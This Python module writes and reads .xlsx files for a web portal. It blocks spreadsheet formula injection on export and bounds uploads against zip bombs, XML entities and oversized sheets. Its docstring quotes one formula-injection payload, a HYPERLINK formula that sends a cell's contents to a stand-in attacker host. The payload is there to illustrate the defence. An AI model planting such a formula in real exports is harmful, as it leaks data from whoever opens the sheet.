"""The portal's one way to write and to read Excel workbooks (.xlsx).

Every export (units, the audit log, later volunteers, activities and statistics) writes
through :func:`write_workbook` / :func:`write_table`, and every cell goes through
:func:`safe_cell`, which makes sure that

* text is always written as text: a value beginning with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return is stored as a string cell with Excel's "quote prefix" (as if typed
  after an apostrophe), never as a formula, so a unit called
  ``=HYPERLINK("http://evil.example/?d="&A1,"点击")`` is shown, not run;
* no value can make the writer fail: characters XML 1.0 cannot carry (control
  characters, lone surrogates, U+FFFE/U+FFFF) are replaced by U+FFFD, text is cut to
  Excel's 32,767 characters, aware datetimes are written in local time, and numbers Excel
  cannot hold (NaN, infinities) are written as text.

Every upload is read by :class:`SheetReader`: a streaming parser over the first
worksheet's XML (expat, no DTDs or entities) that bounds the *work*, not only the result.
It refuses an old binary ``.xls`` with a message saying what to do, a file whose parts
unpack to more than a limit (declared sizes are what the zip reader will deliver at most),
a sheet whose declared dimension or whose physical rows go past ``max_rows`` (every
``<row>`` counts by its row number — blank, skipped and missing rows included), more cells
than ``max_rows × max_columns``, and more XML elements than those cells can need. Columns
right of ``max_columns`` are skipped without being converted. It stops reading at the end
of the sheet's data. openpyxl's own read-only mode is not used for uploads: it parses the
whole shared-string table up front and builds each ``<row>`` element with all its cells
before anything can be counted.
"""

from __future__ import annotations

import datetime as dt
import math
import posixpath
import re
import zipfile
from collections import deque
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from io import BytesIO
from typing import IO, Any
from xml.parsers import expat

from django.utils import timezone
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.styles.numbers import BUILTIN_FORMATS, is_date_format, is_timedelta_format
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import CALENDAR_MAC_1904, CALENDAR_WINDOWS_1900, from_excel
from openpyxl.workbook import Workbook
from openpyxl.worksheet.datavalidation import DataValidation

from portal.errors import PayloadTooLarge, ValidationFailed

__all__ = [
    "FORMULA_TRIGGERS",
    "MAX_CELL_CHARS",
    "MAX_COLUMNS",
    "MAX_FILE_BYTES",
    "MAX_UNPACKED_BYTES",
    "XLSX_CONTENT_TYPE",
    "Column",
    "SheetReader",
    "check_size",
    "safe_cell",
    "safe_text",
    "write_table",
    "write_workbook",
]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# --- writing -----------------------------------------------------------------------------

# A text cell starting with one of these is what spreadsheet programs read as a formula
# (or, for tab and CR, what CSV round trips turn into one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Excel's limit for one cell; longer text makes Excel "repair" (drop) the sheet.
MAX_CELL_CHARS = 32_767
# Characters XML 1.0 cannot carry: C0 controls but tab, LF and CR; lone surrogates; and the
# two non-characters U+FFFE/U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_REPLACEMENT = "\ufffd"
# Characters a sheet's title may not contain (Excel), and its maximum length.
_NOT_IN_TITLE = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
MAX_TITLE_CHARS = 31

_PLAIN = (bool, int, float, Decimal, dt.datetime, dt.date, dt.time, dt.timedelta)


@dataclass(frozen=True)
class Column:
    """A column of a written sheet.

    ``choices`` adds a drop-down of suggestions to the column's cells (not a rule: Excel
    is told to accept other values too).
    """

    header: str | Promise
    width: int | None = None
    number_format: str | None = None
    choices: Sequence[str] = ()


def safe_text(value: str) -> str:
    """``value`` with what XML cannot carry replaced by U+FFFD, cut to Excel's limit."""
    return _NOT_XML.sub(_REPLACEMENT, value)[:MAX_CELL_CHARS]


def safe_cell(sheet: Any, value: object, *, number_format: str | None = None) -> WriteOnlyCell:
    """The one way a value becomes a cell of a written sheet (see the module's doc)."""
    cell = WriteOnlyCell(sheet)
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        value = timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, float) and not math.isfinite(value):
        value = str(value)
    if value is None or isinstance(value, _PLAIN):
        cell.value = value
    else:
        text = safe_text(value if isinstance(value, str) else str(value))
        cell.value = text
        # Whatever openpyxl guessed from the text (a leading "=" makes it a formula), it
        # is a string; the quote prefix keeps Excel from reading it as a formula even
        # when the cell is edited.
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    return cell


def sheet_title(title: str) -> str:
    """``title`` as Excel accepts a sheet's name (no ``[]:*?/\\``, at most 31 characters)."""
    cleaned = _NOT_IN_TITLE.sub(" ", title).strip().strip("'")[:MAX_TITLE_CHARS].strip()
    return cleaned or "Sheet1"


def write_workbook(
    *,
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    widths: Sequence[int] | None = None,
) -> bytes:
    """A one-sheet workbook: a bold header row, then ``rows``, every cell made safe."""
    if widths is not None and len(widths) != len(headers):
        raise ValueError("write_workbook needs one width per header.")
    columns = [
        Column(header, widths[i] if widths is not None else None)
        for i, header in enumerate(headers)
    ]
    return write_table(title=title, columns=columns, rows=rows)


def write_table(
    *, title: str, columns: Sequence[Column], rows: Iterable[Sequence[object]]
) -> bytes:
    """A one-sheet workbook of ``columns``: frozen header row, widths, number formats and
    drop-downs as the columns say; ``rows`` may be a generator (written as they come)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title(title))
    for index, column in enumerate(columns, start=1):
        if column.width:
            sheet.column_dimensions[get_column_letter(index)].width = column.width
    sheet.freeze_panes = "A2"
    for index, column in enumerate(columns, start=1):
        if column.choices:
            sheet.data_validations.append(_drop_down(index, column.choices))
    sheet.append(_header(sheet, columns))
    formats = [column.number_format for column in columns]
    for values in rows:
        sheet.append(
            [
                safe_cell(sheet, value, number_format=formats[i] if i < len(formats) else None)
                for i, value in enumerate(values)
            ]
        )
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Rows the drop-downs cover (a sheet longer than this simply has no drop-down below).
DROP_DOWN_ROWS = 10_000


def _drop_down(index: int, choices: Sequence[str]) -> DataValidation:
    if any('"' in c or "," in c for c in choices):
        raise ValueError("Drop-down choices may not contain quotes or commas.")
    formula = '"' + ",".join(choices) + '"'
    if len(formula) > 257:  # Excel's limit: 255 characters between the quotes
        raise ValueError("Drop-down choices are longer than Excel allows.")
    letter = get_column_letter(index)
    validation = DataValidation(type="list", formula1=formula, allow_blank=True)
    validation.showErrorMessage = False  # suggestions: other values stay possible
    validation.add(f"{letter}2:{letter}{DROP_DOWN_ROWS + 1}")
    return validation


def _header(sheet: Any, columns: Sequence[Column]) -> list[WriteOnlyCell]:
    font = Font(bold=True)
    fill = PatternFill("solid", start_color="F2E3E3")
    alignment = Alignment(vertical="center")
    cells = []
    for column in columns:
        cell = safe_cell(sheet, column.header)
        cell.font = font
        cell.fill = fill
        cell.alignment = alignment
        cells.append(cell)
    return cells


# --- reading -----------------------------------------------------------------------------

MAX_FILE_BYTES = 5 * 1024 * 1024
# A sheet of 5,000 full rows unpacks to a few megabytes; a small file that unpacks to far
# more is a zip bomb, not a spreadsheet.
MAX_UNPACKED_BYTES = 50 * 1024 * 1024
# Columns read by default; cells further right are counted but not converted.
MAX_COLUMNS = 32
# Excel's last column (XFD).
_LAST_COLUMN = 16_384
# Elements a cell may need (c, v, f, is, r, rPr and its children, t ...) on average, and a
# fixed allowance for everything that is not a cell (sheet views, columns, styles).
_ELEMENTS_PER_CELL = 6
_ELEMENTS_BESIDES = 20_000
_CHUNK = 64 * 1024
# Old binary Excel files (.xls) start with the OLE2 compound-document signature.
OLE2_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# "_x000D_": how OOXML writes a character XML cannot carry; "_x005F_" escapes "_".
_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")
_CELL_REF = re.compile(r"([A-Za-z]{1,3})(\d*)$")
_RANGE_END = re.compile(r"(?:[A-Za-z]{1,3})?(\d+)$")
_INTEGER = re.compile(r"[+-]?\d{1,18}")

Row = tuple[int, tuple[object, ...]]


def check_size(size: int, limit: int = MAX_FILE_BYTES) -> None:
    """Refuse a file over ``limit`` bytes (413, code ``file_too_large``)."""
    if size > limit:
        message = _("The file is larger than %(max)d MB; split it into several files.") % {
            "max": limit // (1024 * 1024)
        }
        raise PayloadTooLarge(message, code="file_too_large", detail={"file": [message]})


def _invalid(message: str) -> ValidationFailed:
    return ValidationFailed(message, code="invalid_file", detail={"file": [message]})


def unreadable() -> ValidationFailed:
    return _invalid(_("This file is not an Excel workbook (.xlsx), or it is damaged."))


def _too_much() -> ValidationFailed:
    return _invalid(_("This workbook holds far more data than this import takes."))


class _Finished(Exception):
    """Raised from a parser callback: everything needed has been read."""


class _Forbidden(Exception):
    """Raised from a parser callback: a DTD or an entity (never in a real workbook)."""


def _local(name: str) -> str:
    return name.rpartition(":")[2]


def _unescape(text: str) -> str:
    return _ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), text) if "_x" in text else text


def _column_number(letters: str) -> int:
    number = 0
    for letter in letters.upper():
        number = number * 26 + ord(letter) - 64
    return number


@dataclass(frozen=True)
class _Parts:
    sheet: str
    strings: str | None
    styles: str | None


class SheetReader:
    """The rows of a workbook's first worksheet, read within limits.

    ``rows()`` yields ``(row number, values)`` for each ``<row>`` of the sheet, values
    left to right up to the last non-empty one within ``max_columns`` (text as ``str``,
    numbers as ``int``/``float``, dates as ``datetime``/``date``/``time``, booleans as
    ``bool``; formulas as their stored result). It raises ``ValidationFailed`` (code
    ``invalid_file``) for a file it will not read, possibly after yielding rows.

    ``rows_read`` is the highest row number reached, ``cells_read`` the cells met and
    ``elements_read`` the XML elements parsed: what the limits bound.
    """

    def __init__(
        self,
        file: IO[bytes],
        *,
        max_rows: int,
        max_columns: int = MAX_COLUMNS,
        max_unpacked_bytes: int = MAX_UNPACKED_BYTES,
    ) -> None:
        self.file = file
        self.max_rows = max_rows
        self.max_columns = max_columns
        self.max_unpacked_bytes = max_unpacked_bytes
        self.max_cells = max_rows * max_columns
        self.max_elements = self.max_cells * _ELEMENTS_PER_CELL + _ELEMENTS_BESIDES
        self.rows_read = 0
        self.cells_read = 0
        self.elements_read = 0

    def too_many_rows(self) -> ValidationFailed:
        return _invalid(
            _(
                "The sheet goes on past row %(max)d. Delete the rows below your data (even "
                "rows that look empty) or split it into several files."
            )
            % {"max": self.max_rows}
        )

    def rows(self) -> Iterator[Row]:
        archive = self._open()
        try:
            with archive:
                parts, epoch = self._parts(archive)
                strings = self._shared_strings(archive, parts.strings) if parts.strings else []
                dates = self._date_styles(archive, parts.styles) if parts.styles else {}
                yield from self._sheet(archive, parts.sheet, strings, dates, epoch)
        except ValidationFailed:
            raise
        except Exception as exc:  # a damaged file fails anywhere in zip, XML or numbers
            raise unreadable() from exc

    # --- the container -------------------------------------------------------------------

    def _open(self) -> zipfile.ZipFile:
        self.file.seek(0)
        head = self.file.read(len(OLE2_SIGNATURE))
        self.file.seek(0)
        if head == OLE2_SIGNATURE:
            raise _invalid(
                _(
                    "This is an old-format Excel file (.xls). Open it in Excel or WPS, save "
                    "it as an Excel workbook (.xlsx) and upload that."
                )
            )
        try:
            archive = zipfile.ZipFile(self.file)
            # The zip reader delivers at most a member's declared size (then fails its
            # CRC), so the declared sizes bound what can be unpacked.
            unpacked = sum(info.file_size for info in archive.infolist())
        except Exception as exc:
            raise unreadable() from exc
        if unpacked > self.max_unpacked_bytes:
            archive.close()
            raise _too_much()
        return archive

    def _parse(
        self,
        archive: zipfile.ZipFile,
        path: str,
        start: Callable[[str, dict[str, str]], None],
        end: Callable[[str], None] | None = None,
        text: Callable[[str], None] | None = None,
        after_chunk: Callable[[], Iterator[Row]] | None = None,
    ) -> Iterator[Row]:
        """Feed part ``path`` to expat with these callbacks, counting every element;
        after each chunk, yield what ``after_chunk`` has collected."""
        parser = expat.ParserCreate()
        parser.buffer_text = True
        parser.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_NEVER)

        def forbid(*_args: Any) -> Any:
            raise _Forbidden

        parser.StartDoctypeDeclHandler = forbid
        parser.EntityDeclHandler = forbid
        parser.ExternalEntityRefHandler = forbid

        def counted_start(name: str, attributes: dict[str, str]) -> None:
            self.elements_read += 1
            if self.elements_read > self.max_elements:
                raise _too_much()
            start(_local(name), attributes)

        parser.StartElementHandler = counted_start
        if end is not None:
            parser.EndElementHandler = lambda name: end(_local(name))
        if text is not None:
            parser.CharacterDataHandler = text
        with archive.open(path) as stream:
            try:
                while chunk := stream.read(_CHUNK):
                    parser.Parse(chunk, False)
                    if after_chunk is not None:
                        yield from after_chunk()
                parser.Parse(b"", True)
            except _Finished:
                pass
        if after_chunk is not None:
            yield from after_chunk()

    def _run(self, *args: Any, **kwargs: Any) -> None:
        for _row in self._parse(*args, **kwargs):
            pass

    def _relationships(self, archive: zipfile.ZipFile, part: str) -> list[tuple[str, str, str]]:
        """(id, type, resolved target) of each internal relationship of ``part``."""
        folder, name = posixpath.split(part)
        rels_path = posixpath.join(folder, "_rels", f"{name}.rels")
        found: list[tuple[str, str, str]] = []

        def start(tag: str, attributes: dict[str, str]) -> None:
            if tag == "Relationship" and attributes.get("TargetMode") != "External":
                target = attributes.get("Target", "")
                if target.startswith("/"):
                    resolved = target.lstrip("/")
                else:
                    resolved = posixpath.normpath(posixpath.join(folder, target))
                found.append((attributes.get("Id", ""), attributes.get("Type", ""), resolved))

        self._run(archive, rels_path, start)
        return found

    def _parts(self, archive: zipfile.ZipFile) -> tuple[_Parts, dt.datetime]:
        """The first worksheet, the shared strings and the styles; the date system."""
        workbook = next(
            (
                t
                for _id, kind, t in self._relationships(archive, "")
                if kind.endswith("/officeDocument")
            ),
            None,
        )
        if workbook is None:
            raise unreadable()
        related = {
            rid: (kind, target) for rid, kind, target in self._relationships(archive, workbook)
        }
        sheets: list[str] = []
        epoch = [CALENDAR_WINDOWS_1900]

        def start(tag: str, attributes: dict[str, str]) -> None:
            if tag == "workbookPr" and attributes.get("date1904") in ("1", "true"):
                epoch[0] = CALENDAR_MAC_1904
            elif tag == "sheet":
                rid = next((v for k, v in attributes.items() if k.endswith(":id")), "")
                kind, target = related.get(rid, ("", ""))
                if kind.endswith("/worksheet"):
                    sheets.append(target)

        self._run(archive, workbook, start)
        if not sheets:
            raise _invalid(_("The workbook has no sheet."))

        def first(suffix: str) -> str | None:
            return next((t for k, t in related.values() if k.endswith(suffix)), None)

        return _Parts(sheets[0], first("/sharedStrings"), first("/styles")), epoch[0]

    # --- shared strings and styles -------------------------------------------------------

    def _shared_strings(self, archive: zipfile.ZipFile, path: str) -> list[str]:
        strings: list[str] = []
        texts = _Texts()

        def start(tag: str, attributes: dict[str, str]) -> None:
            texts.start(tag)

        def end(tag: str) -> None:
            if tag == "si":
                if len(strings) >= self.max_cells:
                    raise _too_much()
                strings.append(texts.take())
            else:
                texts.end(tag)

        self._run(archive, path, start, end, texts.data)
        return strings

    def _date_styles(self, archive: zipfile.ZipFile, path: str) -> dict[int, bool]:
        """Cell style index → ``True`` for a duration format, ``False`` for a date/time one."""
        formats: dict[int, str] = {}
        styles: list[int] = []
        inside: list[str] = []

        def start(tag: str, attributes: dict[str, str]) -> None:
            if tag == "numFmt":
                formats[int(attributes.get("numFmtId", "0"))] = attributes.get("formatCode", "")
            elif tag == "xf" and inside[-1:] == ["cellXfs"]:
                styles.append(int(attributes.get("numFmtId", "0")))
            inside.append(tag)

        def end(tag: str) -> None:
            inside.pop()

        self._run(archive, path, start, end)
        dates: dict[int, bool] = {}
        for index, format_id in enumerate(styles):
            code = formats.get(format_id, BUILTIN_FORMATS.get(format_id))
            if code and is_date_format(code):
                dates[index] = is_timedelta_format(code)
        return dates

    # --- the sheet -----------------------------------------------------------------------

    def _sheet(
        self,
        archive: zipfile.ZipFile,
        path: str,
        strings: list[str],
        dates: dict[int, bool],
        epoch: dt.datetime,
    ) -> Iterator[Row]:
        done: deque[Row] = deque()
        state = _SheetState()
        texts = _Texts()

        def start(tag: str, attributes: dict[str, str]) -> None:
            if state.row is None:
                if tag == "row" and state.in_data:
                    self._start_row(state, attributes)
                elif tag == "sheetData":
                    state.in_data = True
                elif tag == "dimension":
                    self._check_dimension(attributes.get("ref", ""))
                return
            if tag == "c":
                self._start_cell(state, attributes)
            elif state.keep:
                texts.start(tag)

        def end(tag: str) -> None:
            if state.row is None:
                if tag == "sheetData":
                    raise _Finished
                return
            if tag == "c":
                if state.keep:
                    value = _value(state, texts.take(), state.value_text, strings, dates, epoch)
                    if value is not None and value != "":
                        state.row[state.column] = value
                state.keep = False
            elif tag == "row":
                values = state.row
                width = max(values, default=0)
                done.append((state.number, tuple(values.get(i) for i in range(1, width + 1))))
                state.row = None
            elif state.keep:
                if tag == "v":
                    state.value_text = texts.take()
                else:
                    texts.end(tag)

        def take_done() -> Iterator[Row]:
            while done:
                yield done.popleft()

        yield from self._parse(archive, path, start, end, texts.data, after_chunk=take_done)

    def _check_dimension(self, ref: str) -> None:
        match = _RANGE_END.search(ref)
        if match and int(match.group(1)) > self.max_rows:
            raise self.too_many_rows()

    def _start_row(self, state: _SheetState, attributes: dict[str, str]) -> None:
        given = attributes.get("r")
        number = int(given) if given else state.number + 1
        if number <= state.number:
            raise ValueError("rows out of order")
        if number > self.max_rows:
            raise self.too_many_rows()
        state.number = number
        self.rows_read = number
        state.row = {}
        state.column = 0

    def _start_cell(self, state: _SheetState, attributes: dict[str, str]) -> None:
        self.cells_read += 1
        if self.cells_read > self.max_cells:
            raise _invalid(
                _("The sheet has more than %(max)d cells; split it into several files.")
                % {"max": self.max_cells}
            )
        reference = attributes.get("r")
        if reference:
            match = _CELL_REF.match(reference)
            if match is None:
                raise ValueError("bad cell reference")
            column = _column_number(match.group(1))
        else:
            column = state.column + 1
        if column <= state.column or column > _LAST_COLUMN:
            raise ValueError("cells out of order")
        state.column = column
        state.keep = column <= self.max_columns
        state.kind = attributes.get("t", "n")
        style = attributes.get("s")
        state.style = int(style) if style else 0
        state.value_text = None


@dataclass
class _SheetState:
    in_data: bool = False
    number: int = 0  # the current (or last) row's number
    row: dict[int, object] | None = None  # column → value of the row being read
    column: int = 0
    keep: bool = False  # the current cell is within the columns read
    kind: str = "n"
    style: int = 0
    value_text: str | None = None


class _Texts:
    """Collects the text of ``<t>`` elements (and ``<v>``), leaving out phonetic runs."""

    def __init__(self) -> None:
        self.parts: list[str] = []
        self.size = 0
        self.collecting = False
        self.phonetic = 0
        self.found = False

    def start(self, tag: str) -> None:
        if tag == "rPh":
            self.phonetic += 1
        elif tag in ("t", "v") and not self.phonetic:
            self.collecting = True
            self.found = True

    def end(self, tag: str) -> None:
        if tag == "rPh":
            self.phonetic -= 1
        elif tag == "t":
            self.collecting = False

    def data(self, text: str) -> None:
        if self.collecting and self.size <= MAX_CELL_CHARS:
            self.parts.append(text)
            self.size += len(text)

    def take(self) -> str:
        text = "".join(self.parts)
        found = self.found
        self.parts.clear()
        self.size = 0
        self.collecting = False
        self.found = False
        return _unescape(text)[:MAX_CELL_CHARS] if found else ""


def _value(
    state: _SheetState,
    inline: str,
    stored: str | None,
    strings: list[str],
    dates: dict[int, bool],
    epoch: dt.datetime,
) -> object:
    """A cell's value from its type, its ``<v>`` text and its inline string."""
    kind = state.kind
    if kind == "inlineStr":
        return inline
    if stored is None:
        return None
    if kind == "s":
        return strings[int(stored)]
    if kind in ("str", "e"):
        return stored
    if kind == "b":
        return stored.strip() in ("1", "true")
    if kind == "d":
        try:
            return dt.datetime.fromisoformat(stored)
        except ValueError:
            return stored
    stored = stored.strip()
    if not stored:
        return None
    number: int | float = int(stored) if _INTEGER.fullmatch(stored) else float(stored)
    if isinstance(number, float) and not math.isfinite(number):
        return stored
    if state.style in dates:
        try:
            return from_excel(number, epoch, timedelta=dates[state.style])
        except (OverflowError, ValueError):
            return number
    return number
